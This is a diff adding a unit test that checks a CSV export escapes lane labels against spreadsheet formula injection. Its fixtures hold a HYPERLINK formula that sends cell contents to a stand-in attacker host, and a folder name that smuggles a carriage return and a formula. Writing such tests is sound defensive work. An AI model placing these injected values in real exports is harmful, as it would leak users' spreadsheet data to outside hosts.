@@ -32,6 +32,14 @@ test('CSV export: visible series of every lane within the zoom, with ranges per 
   assert.equal(buildCsv([A], [2, 4], ['ctr'], null, 'cumulative'), 'event,CTR\n2,0.1\n4,0.2\n');
 });
 
+test('CSV header cells from lane labels (trace folder names) are text in a spreadsheet: no formula, no row split by a carriage return', () => {
+  const evil = { ...A, label: '=HYPERLINK("https://attacker.example/?"&A2,"open")' };
+  // A folder named "run\r=1+1": the carriage return started a row whose first cell was a formula.
+  const cr = { ...B, label: 'B: run\r=1+1 (linear)' };
+  const [head] = buildCsv([evil, cr], [2, 4], ['ctr'], null, 'cumulative').split('\n');
+  assert.equal(head, 'event,"\'=HYPERLINK(""https://attacker.example/?""&A2,""open""): CTR","B: run\r=1+1 (linear): CTR"');
+});
+
 test('CSV latency columns say what they are: the stage, the unit, and p99 for running values', () => {
   const L = { ...A, series: { 'latency.score': { v: [40, 50], lo: [30, 45], hi: [60, 55] }, 'latency.total': { v: [90, 100], lo: [80, 95], hi: [120, 105] } } } as typeof A;
   assert.equal(buildCsv([L], [2, 4], ['latency.total', 'latency.score'], null, 'cumulative'), 'event,latency total p99 (ms),latency score p99 (ms)\n2,90,40\n4,100,50\n');
